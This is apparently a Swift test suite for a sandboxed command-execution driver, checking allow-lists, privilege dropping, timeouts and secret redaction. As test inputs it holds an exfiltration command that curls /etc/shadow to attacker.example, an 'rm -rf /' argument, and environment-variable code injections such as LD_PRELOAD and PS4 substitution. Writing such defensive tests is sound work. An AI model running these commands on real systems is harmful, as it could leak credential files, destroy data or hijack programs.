import Foundation
import Testing
import TestSupport
@testable import Drivers
import Engine
import Policy
import Secrets

/// The exec driver runs real programs: only those the operator allows by absolute path, as
/// the operator's user and never as root, argv only, a clean environment, a timeout, output
/// truncated into the outcome, and no secret ever repeated, in any form.
@Suite(.execUser) struct ExecDriverTests {
    static func host(dir: String? = nil, env: [String: ConnectionValue] = [:]) -> HostDeclaration {
        HostDeclaration(path: "hosts/runner.json", id: "6c5d4e3f-2a1b-4c9d-8e7f-6a5b4c3d2e1f", name: "runner-1", driver: .exec,
                        connection: .exec(workingDirectory: dir, environment: env), labels: [:])
    }

    static func action(_ argv: [String], timeout: Int64 = 30) -> PlannedAction {
        PlannedAction(policyID: "p", capability: "exec.command", verb: "run",
                      params: .object(["argv": .array(argv.map(JSON.string)), "timeout_s": .integer(timeout)]), keyHint: nil)
    }

    static let local = InventoryTarget(id: "host:local", type: .host, nativeID: "local", name: "local", state: "ready")

    /// Exactly the programs these tests run, as the suite's user.
    let driver = Self.driver(allow: ["/bin/sh", "/bin/sleep", "/bin/grep", "/usr/bin/touch", "/bin/true", "/usr/local/bin/no-such-program-xyz"])

    /// A launch of `argv` as the driver would start it.
    func launch(_ argv: [String]) throws -> ExecDriver.Launch {
        try driver.launch(argv).get()
    }

    @Test func runsAnArgvInTheWorkingFolderWithACleanEnvironment() async throws {
        let dir = TemporaryDirectory()
        let host = Self.host(dir: dir.path, env: ["GREETING": .literal("hello world"), "TOKEN": .reference(.named("runner-token"))])
        // A shell word in an argument stays one argument: nothing is run through a shell.
        let out = await driver.execute(host, action: Self.action(["/bin/sh", "-c", "pwd; env | sort; echo $TOKEN", "ignored;rm -rf /"]), targets: [Self.local])
        #expect(out.map(\.outcome) == ["succeeded"])
        let detail = try #require(out.first?.detail)
        #expect(detail.hasPrefix("exit status 0; output: " + dir.path))
        #expect(detail.contains("GREETING=hello world") && detail.contains("PATH=/usr/local/sbin"))
        // HOME is the user's; nothing else of the reconciler's environment comes along.
        #expect(detail.contains("HOME=\(ExecUser.current?.home ?? ExecAccount.reconciler().home)\n"), "\(detail)")
        #expect(!detail.contains("USER=") && !detail.contains("LOGNAME="))
        // The token reached the command, never the record.
        #expect(!detail.contains("tok-3f9a8b7c6d") && detail.contains("TOKEN=<secret>"))
    }

    @Test func failuresTimeoutsAndLongOutput() async throws {
        let host = Self.host()
        let failed = await driver.execute(host, action: Self.action(["/bin/sh", "-c", "echo oops >&2; exit 3"]), targets: [Self.local])
        #expect(failed.first?.outcome == "failed" && failed.first?.severity == .error)
        #expect(failed.first?.detail == "exit status 3; errors: oops")
        let slow = await driver.execute(host, action: Self.action(["/bin/sleep", "30"], timeout: 1), targets: [Self.local])
        #expect(slow.first?.detail?.hasPrefix("killed after the 1 s timeout") == true)
        // How long the kill takes, timed on this thread (the driver's own await would also
        // count the time the tests beside this one keep the shared threads busy).
        let started = Date()
        let killed = ExecDriver.runCommand(try launch(["/bin/sleep", "30"]), directory: nil, environment: [:], timeout: 1)
        #expect(!killed.succeeded && Date().timeIntervalSince(started) < 10)
        let long = await driver.execute(host, action: Self.action(["/bin/sh", "-c", "head -c 100000 /dev/zero | tr '\\\\0' x"]), targets: [Self.local])
        #expect(long.first?.outcome == "succeeded")
        #expect(long.first?.detail?.contains("… (97952 more bytes)") == true)
        #expect((long.first?.detail?.count ?? 0) < 2200)
    }

    /// The command runs with every signal unblocked, in a process group of its own: a
    /// timeout stops it and whatever it started, even a child that keeps the output open.
    @Test func signalsReachTheCommandAndItsChildren() async throws {
        let host = Self.host()
        let mask = await driver.execute(host, action: Self.action(["/bin/grep", "SigBlk", "/proc/self/status"]), targets: [Self.local])
        #expect(mask.first?.detail?.contains("SigBlk:\t0000000000000000") == true, "\(mask.first?.detail ?? "")")
        let tree = await driver.execute(host, action: Self.action(["/bin/sh", "-c", "sleep 60 & echo started; sleep 60"], timeout: 1), targets: [Self.local])
        #expect(tree.first?.detail == "killed after the 1 s timeout; output: started")
        let started = Date()
        let killed = ExecDriver.runCommand(try launch(["/bin/sh", "-c", "sleep 60 & echo started; sleep 60"]), directory: nil, environment: [:], timeout: 1)
        #expect(!killed.succeeded && Date().timeIntervalSince(started) < 10)
    }

    @Test func dryRunChecksTheProgramAndTheFolderAndChangesNothing() async {
        let dir = TemporaryDirectory()
        let marker = dir.join("ran")
        let ok = await driver.dryRun(Self.host(dir: dir.path), action: Self.action(["/usr/bin/touch", marker]), targets: [Self.local],
                                     inventory: HostInventory(hostID: "h", targets: [], refreshedAt: nil))
        #expect(ok.ok && ok.preview.first?.contains("/usr/bin/touch \(marker)") == true, "\(ok.preview)")
        #expect(!FileManager.default.fileExists(atPath: marker))
        let missing = await driver.dryRun(Self.host(), action: Self.action(["/usr/local/bin/no-such-program-xyz"]), targets: [Self.local],
                                          inventory: HostInventory(hostID: "h", targets: [], refreshedAt: nil))
        #expect(!missing.ok && missing.reason == "/usr/local/bin/no-such-program-xyz is not an executable file")
        let noFolder = await driver.dryRun(Self.host(dir: "/no/such/folder"), action: Self.action(["/bin/true"]), targets: [Self.local],
                                           inventory: HostInventory(hostID: "h", targets: [], refreshedAt: nil))
        #expect(!noFolder.ok && noFolder.reason?.contains("/no/such/folder") == true)
        // Granted, but the variable it comes from is not set.
        var grants = Grants.secrets([.init(name: "missing-var", value: "x", host: "6c5d4e3f-2a1b-4c9d-8e7f-6a5b4c3d2e1f", field: "env.T")]).configuration
        grants.secrets["missing-var"]?.source = .env("MISSING_VAR")
        grants.exec = ExecGrant(allow: ["/bin/true"], user: ExecUser.current?.name)
        let unset = await ExecDriver(secrets: Secrets(environment: [:], configuration: grants), clock: ManualClock())
            .dryRun(Self.host(env: ["T": .reference(.named("missing-var"))]), action: Self.action(["/bin/true"]), targets: [Self.local],
                    inventory: HostInventory(hostID: "h", targets: [], refreshedAt: nil))
        #expect(!unset.ok && unset.reason == #"{"secret":"missing-var"}: the environment variable MISSING_VAR is not set"#)
        #expect(unset.code == .authDenied)
        // Not granted at all: refused before any value is read.
        var onlyTrue = OperatorConfiguration.strictest
        onlyTrue.exec = grants.exec
        let ungranted = await ExecDriver(secrets: Secrets(environment: ["MISSING_VAR": "v"], configuration: onlyTrue), clock: ManualClock())
            .dryRun(Self.host(env: ["T": .reference(.env("MISSING_VAR"))]), action: Self.action(["/bin/true"]), targets: [Self.local],
                    inventory: HostInventory(hostID: "h", targets: [], refreshedAt: nil))
        #expect(!ungranted.ok && ungranted.code == .secretNotGranted && ungranted.reason?.contains("is not listed for this host") == true)
    }

    // MARK: What the operator allows

    static let hostID = "6c5d4e3f-2a1b-4c9d-8e7f-6a5b4c3d2e1f"
    static let token = "tok-3f9a8b7c6d"
    static let inventory = HostInventory(hostID: "h", targets: [], refreshedAt: nil)

    /// A driver that may run `allow`, as `user` (the suite's user unless given; `.some(nil)`
    /// names none), with the runner's token granted as `env.TOKEN`.
    static func driver(allow: [String], user: String?? = nil) -> ExecDriver {
        let exec = ExecGrant(allow: allow, user: user ?? ExecUser.current?.name)
        return ExecDriver(secrets: Grants.secrets([.init(name: "runner-token", value: token, host: hostID, field: "env.TOKEN")], exec: exec),
                          clock: ManualClock())
    }

    /// A folder every user may write to: a command that ran, as whoever, leaves its marker.
    static func markerFolder() -> TemporaryDirectory {
        let dir = TemporaryDirectory("exec-marker")
        chmod(dir.path, 0o777)
        return dir
    }

    static func realPath(_ path: String) -> String {
        guard let p = realpath(path, nil) else { return path }
        defer { free(p) }
        return String(cString: p)
    }

    /// The attack: a commit asks for a shell that sends a file away. The operator allowed
    /// another program; nothing runs, at dry-run or at execution.
    @Test func aShellIsRefusedWhenTheOperatorAllowsAnotherProgram() async {
        let dir = Self.markerFolder()
        let marker = dir.join("ran")
        let driver = Self.driver(allow: ["/usr/local/bin/site-x"])
        let action = Self.action(["/bin/sh", "-c", "touch \(marker); curl --data-binary @/etc/shadow https://attacker.example"])
        let dry = await driver.dryRun(Self.host(), action: action, targets: [Self.local], inventory: Self.inventory)
        #expect(!dry.ok && dry.code == .programNotAllowed && dry.severity == .error)
        #expect(dry.reason?.hasPrefix("/bin/sh is not allowed: argv[0] must be one of the paths under \"exec.allow\" in the operator's configuration (/etc/policyops/config.json)") == true,
                "\(dry.reason ?? "")")
        let out = await driver.execute(Self.host(), action: action, targets: [Self.local])
        #expect(out.first?.outcome == "failed" && out.first?.detail?.hasPrefix("/bin/sh is not allowed") == true, "\(out)")
        #expect(!FileManager.default.fileExists(atPath: marker))
    }

    /// A program the operator listed that is a link to a shell is the shell: refused, unless
    /// the shell itself is listed too.
    @Test func anAllowedLinkToAShellIsRefused() async throws {
        let dir = Self.markerFolder()
        let marker = dir.join("ran")
        let wrapper = dir.join("site-x")
        try FileManager.default.createSymbolicLink(atPath: wrapper, withDestinationPath: "/bin/sh")
        let shell = Self.realPath("/bin/sh")
        let action = Self.action([wrapper, "-c", "touch \(marker)"])
        let driver = Self.driver(allow: [wrapper])
        let dry = await driver.dryRun(Self.host(), action: action, targets: [Self.local], inventory: Self.inventory)
        #expect(!dry.ok && dry.code == .programNotAllowed)
        #expect(dry.reason?.hasPrefix("\(wrapper) resolves to the shell \(shell), which the operator did not allow by path") == true, "\(dry.reason ?? "")")
        let out = await driver.execute(Self.host(), action: action, targets: [Self.local])
        #expect(out.first?.outcome == "failed" && out.first?.detail?.contains("resolves to the shell \(shell)") == true, "\(out)")
        #expect(!FileManager.default.fileExists(atPath: marker))
        // Listed by its real path as well, the operator allowed the shell.
        let both = await Self.driver(allow: [wrapper, shell]).execute(Self.host(), action: action, targets: [Self.local])
        #expect(both.first?.outcome == "succeeded", "\(both)")
        #expect(FileManager.default.fileExists(atPath: marker))
    }

    /// The operator may allow a shell by its path: then it runs.
    @Test func aShellTheOperatorAllowsByPathRuns() async {
        let dir = Self.markerFolder()
        let marker = dir.join("ran")
        let driver = Self.driver(allow: ["/bin/sh"])
        let action = Self.action(["/bin/sh", "-c", "touch \(marker); echo ran"])
        let dry = await driver.dryRun(Self.host(), action: action, targets: [Self.local], inventory: Self.inventory)
        #expect(dry.ok, "\(dry.reason ?? "")")
        #expect(!FileManager.default.fileExists(atPath: marker), "a dry-run runs nothing")
        let out = await driver.execute(Self.host(), action: action, targets: [Self.local])
        #expect(out.first?.outcome == "succeeded" && out.first?.detail == "exit status 0; output: ran", "\(out)")
        #expect(FileManager.default.fileExists(atPath: marker))
    }

    /// A bare name is not looked up in PATH (a program earlier in PATH would win).
    @Test func aBareNameIsRefused() async {
        let dir = Self.markerFolder()
        let marker = dir.join("ran")
        let driver = Self.driver(allow: ["/bin/sh", "/usr/bin/touch"])
        for argv in [["sh", "-c", "touch \(marker)"], ["touch", marker], ["./touch", marker]] {
            let dry = await driver.dryRun(Self.host(), action: Self.action(argv), targets: [Self.local], inventory: Self.inventory)
            #expect(!dry.ok && dry.code == .programNotAllowed)
            #expect(dry.reason?.hasPrefix("\"\(argv[0])\" is not an absolute path, and PATH is never searched; write the absolute path the operator allowed") == true, "\(dry.reason ?? "")")
            let out = await driver.execute(Self.host(), action: Self.action(argv), targets: [Self.local])
            #expect(out.first?.outcome == "failed" && out.first?.detail?.contains("is not an absolute path") == true, "\(out)")
        }
        #expect(!FileManager.default.fileExists(atPath: marker))
    }

    /// Without an operator's configuration nothing runs, and the message says where to allow it.
    @Test func nothingRunsWithoutAConfiguration() async {
        let dir = Self.markerFolder()
        let marker = dir.join("ran")
        let driver = ExecDriver(secrets: Secrets(environment: [:]), clock: ManualClock())
        let action = Self.action(["/usr/bin/touch", marker])
        let dry = await driver.dryRun(Self.host(), action: action, targets: [Self.local], inventory: Self.inventory)
        #expect(!dry.ok && dry.code == .programNotAllowed && dry.severity == .error)
        #expect(dry.reason == "exec runs only the programs the operator allows, and the operator's configuration (none: /etc/policyops/config.json does not exist) allows none; list the program's absolute path under \"exec.allow\" there",
                "\(dry.reason ?? "")")
        let out = await driver.execute(Self.host(), action: action, targets: [Self.local])
        #expect(out.first?.outcome == "failed" && out.first?.detail?.contains("allows none") == true, "\(out)")
        #expect(!FileManager.default.fileExists(atPath: marker))
    }

    /// Run by root, a command runs as the operator's user: its uid and groups, no way back
    /// to root (not by setuid, not through a set-user-id program), and no root-only file.
    @Test(.enabled(if: SystemUser.canCreate)) func commandsRunAsTheOperatorsUserAndCannotBecomeRoot() async throws {
        let user = try #require(ExecUser.current)
        let dir = TemporaryDirectory("exec-root")
        chmod(dir.path, 0o755)
        dir.write("root-only", "root-only-5e1f9c")
        chmod(dir.join("root-only"), 0o600)
        let setuidID = dir.join("setuid-id")
        try Self.install(copying: "/usr/bin/id", to: setuidID, mode: "4755")
        let driver = Self.driver(allow: ["/usr/bin/id", "/bin/cat", "/bin/grep", "/usr/bin/python3", setuidID])
        func run(_ argv: [String]) async -> TargetOutcome? { await driver.execute(Self.host(), action: Self.action(argv), targets: [Self.local]).first }

        let dry = await driver.dryRun(Self.host(), action: Self.action(["/usr/bin/id", "-u"]), targets: [Self.local], inventory: Self.inventory)
        #expect(dry.ok && dry.preview.first?.contains("as \(user.name)") == true, "\(dry.preview)")
        #expect(await run(["/usr/bin/id", "-u"])?.detail == "exit status 0; output: \(user.uid)")
        let status = await run(["/bin/grep", "-E", "^(Uid|Gid|Groups|NoNewPrivs):", "/proc/self/status"])?.detail ?? ""
        #expect(status.contains("Uid:\t\(user.uid)\t\(user.uid)\t\(user.uid)\t\(user.uid)"), "\(status)")
        #expect(status.contains("Gid:\t\(user.gid)\t\(user.gid)\t\(user.gid)\t\(user.gid)"), "\(status)")
        #expect(status.contains("Groups:\t\(user.gid)\n") || status.contains("Groups:\t\(user.gid) \n"), "root's groups are dropped: \(status)")
        #expect(status.contains("NoNewPrivs:\t1"), "\(status)")
        let cat = await run(["/bin/cat", dir.join("root-only")])
        #expect(cat?.outcome == "failed" && cat?.detail?.contains("Permission denied") == true, "\(String(describing: cat))")
        #expect(cat?.detail?.contains("5e1f9c") == false)
        // A set-user-id root program gives nothing back.
        #expect(await run([setuidID, "-u"])?.detail == "exit status 0; output: \(user.uid)")
        let setuid = await run(["/usr/bin/python3", "-c", "import os; os.setuid(0)"])
        #expect(setuid?.outcome == "failed" && setuid?.detail?.contains("PermissionError") == true, "\(String(describing: setuid))")
    }

    /// The host's `env` may not make the program's shell run something else: bash runs
    /// `$(…)` in PS4 when SHELLOPTS turns tracing on, the loader loads LD_PRELOAD, and so on.
    @Test func variablesThatRunOtherCodeAreRefused() async throws {
        let dir = Self.markerFolder()
        let marker = dir.join("ran")
        let script = dir.join("site-x")
        dir.write("site-x.text", "#!/bin/bash\necho site-x ran\n")
        try Self.install(copying: dir.join("site-x.text"), to: script, mode: "755")
        let driver = Self.driver(allow: [script])
        let clean = await driver.execute(Self.host(env: ["SITE": .literal("lab")]), action: Self.action([script]), targets: [Self.local])
        #expect(clean.first?.detail == "exit status 0; output: site-x ran", "\(clean)")
        for env: [String: ConnectionValue] in [["SHELLOPTS": .literal("xtrace"), "PS4": .literal("$(touch \(marker))")],
                                              ["BASH_ENV": .literal("/proc/self/environ")], ["LD_PRELOAD": .literal("/tmp/evil.so")],
                                              ["PERL5OPT": .literal("-Mstrict;system('touch \(marker)')")], ["NODE_OPTIONS": .literal("--require /tmp/x.js")]] {
            let host = Self.host(env: env)
            let dry = await driver.dryRun(host, action: Self.action([script]), targets: [Self.local], inventory: Self.inventory)
            #expect(!dry.ok && dry.code == .programNotAllowed && dry.reason?.contains("the host's env sets ") == true, "\(env.keys): \(dry.reason ?? "")")
            let out = await driver.execute(host, action: Self.action([script]), targets: [Self.local])
            #expect(out.first?.outcome == "failed" && out.first?.detail?.contains("the host's env sets ") == true, "\(out)")
        }
        #expect(!FileManager.default.fileExists(atPath: marker))
    }

    /// Puts an executable at `path` through another process (install(1)). Written by this
    /// process, its descriptor open for writing could be inherited by a child another test
    /// forks at that moment, and executing the file while that child holds it fails with
    /// ETXTBSY ("Text file busy"): the file must never be open for writing here.
    static func install(copying source: String, to path: String, mode: String) throws {
        let r = try ProcessRunner.run("/usr/bin/install", ["-m", mode, source, path])
        guard r.status == 0 else { throw FixtureError("install \(path): \(r.stderr)") }
    }

    /// A descriptor the reconciler holds open without close-on-exec (a ledger segment, a
    /// socket) does not reach the command.
    @Test func nothingTheReconcilerHoldsOpenReachesTheCommand() async throws {
        let dir = TemporaryDirectory("exec-fd")
        dir.write("held", "held open")
        let fd = open(dir.join("held"), O_RDONLY)
        try #require(fd > 2)
        defer { close(fd) }
        // ls lists its own descriptors: 0, 1 and 2, and 3, the folder it reads.
        let out = await Self.driver(allow: ["/bin/ls"]).execute(Self.host(), action: Self.action(["/bin/ls", "/proc/self/fd"]), targets: [Self.local])
        #expect(out.first?.detail == "exit status 0; output: 0\n1\n2\n3", "\(out)")
    }

    /// The last guard is in the child itself: asked to start a program as root, it does not.
    @Test(.enabled(if: SystemUser.canCreate)) func theChildNeverExecutesAsRoot() throws {
        let dir = Self.markerFolder()
        let marker = dir.join("ran")
        let root = ExecAccount(name: "root", uid: 0, gid: 0, groups: [0], home: "/root")
        let asRoot = ExecDriver.Launch(program: "/usr/bin/touch", argv: ["/usr/bin/touch", marker], account: root, switchesUser: false)
        let refused = ExecDriver.runCommand(asRoot, directory: nil, environment: [:], timeout: 5)
        #expect(!refused.succeeded && refused.summary == "cannot start /usr/bin/touch as root: it would run as root: Operation not permitted", "\(refused)")
        let switched = ExecDriver.Launch(program: "/usr/bin/touch", argv: ["/usr/bin/touch", marker], account: root, switchesUser: true)
        #expect(!ExecDriver.runCommand(switched, directory: nil, environment: [:], timeout: 5).succeeded)
        #expect(!FileManager.default.fileExists(atPath: marker))
    }

    /// Run by root with no `exec.user`, or with a user that does not exist, nothing runs.
    @Test(.enabled(if: SystemUser.canCreate)) func rootWithoutAnUnprivilegedUserRunsNothing() async {
        let dir = Self.markerFolder()
        let marker = dir.join("ran")
        let action = Self.action(["/usr/bin/touch", marker])
        let noUser = Self.driver(allow: ["/usr/bin/touch"], user: .some(nil))
        let dry = await noUser.dryRun(Self.host(), action: action, targets: [Self.local], inventory: Self.inventory)
        #expect(!dry.ok && dry.code == .programNotAllowed)
        #expect(dry.reason?.hasPrefix("exec never runs as root; set \"exec.user\" in the operator's configuration (/etc/policyops/config.json)") == true, "\(dry.reason ?? "")")
        let out = await noUser.execute(Self.host(), action: action, targets: [Self.local])
        #expect(out.first?.outcome == "failed" && out.first?.detail?.hasPrefix("exec never runs as root") == true, "\(out)")
        let unknown = Self.driver(allow: ["/usr/bin/touch"], user: "po-no-such-user")
        let missing = await unknown.dryRun(Self.host(), action: action, targets: [Self.local], inventory: Self.inventory)
        #expect(!missing.ok && missing.code == .programNotAllowed && missing.reason?.contains("the user \"po-no-such-user\"") == true && missing.reason?.contains("does not exist") == true,
                "\(missing.reason ?? "")")
        let ran = await unknown.execute(Self.host(), action: action, targets: [Self.local])
        #expect(ran.first?.outcome == "failed", "\(ran)")
        #expect(!FileManager.default.fileExists(atPath: marker))
    }

    /// A command that prints its secret encoded, reversed or with a mark after it does not
    /// get it into the record.
    @Test func derivedFormsOfASecretAreRedacted() async throws {
        let driver = Self.driver(allow: ["/bin/sh"])
        let script = #"""
        t="$TOKEN"
        printf %s "$t" | base64
        echo "$t" | base64
        printf %s "$t" | base64 | tr '+/' '-_' | tr -d '='
        printf %s "$t" | od -An -tx1 | tr -d ' \n'; echo
        printf %s "$t" | od -An -tx1 | tr -d ' \n' | tr a-f A-F; echo
        printf '%s\n' "$t" | rev
        printf 'xy%s' "$t" | base64
        printf '%s\314\201\n' "$t"
        printf %s "$t" | base64 >&2
        """#
        let host = Self.host(env: ["TOKEN": .reference(.named("runner-token"))])
        let out = await driver.execute(host, action: Self.action(["/bin/sh", "-c", script]), targets: [Self.local])
        let detail = try #require(out.first?.detail)
        #expect(out.first?.outcome == "succeeded", "\(detail)")
        let data = Data(Self.token.utf8)
        let base64 = data.base64EncodedString()
        let forms = [Self.token, base64, Data((Self.token + "\n").utf8).base64EncodedString(),
                     base64.replacingOccurrences(of: "+", with: "-").replacingOccurrences(of: "/", with: "_").replacingOccurrences(of: "=", with: ""),
                     data.map { String(format: "%02x", $0) }.joined(), data.map { String(format: "%02X", $0) }.joined(),
                     String(Self.token.reversed()), Data(("xy" + Self.token).utf8).base64EncodedString()]
        for form in forms { #expect(!detail.contains(form), "\(form) in \(detail)") }
        // Nothing that decodes as base64 holds the token either.
        for word in detail.split(whereSeparator: { $0 == " " || $0 == "\n" || $0 == ";" }) {
            let padded = word + String(repeating: "=", count: (4 - word.count % 4) % 4)
            if let decoded = Data(base64Encoded: String(padded)) {
                #expect(!String(decoding: decoded, as: UTF8.self).contains("3f9a8b"), "\(word) decodes to the token")
            }
        }
        // Nine lines carry it (the last one with the combining mark printed after it).
        let placeholders = Array(detail.utf8).split(separator: UInt8(ascii: "<"), omittingEmptySubsequences: false).dropFirst()
            .filter { $0.starts(with: "secret>".utf8) }.count
        #expect(placeholders == 9, "\(detail)")
    }
}
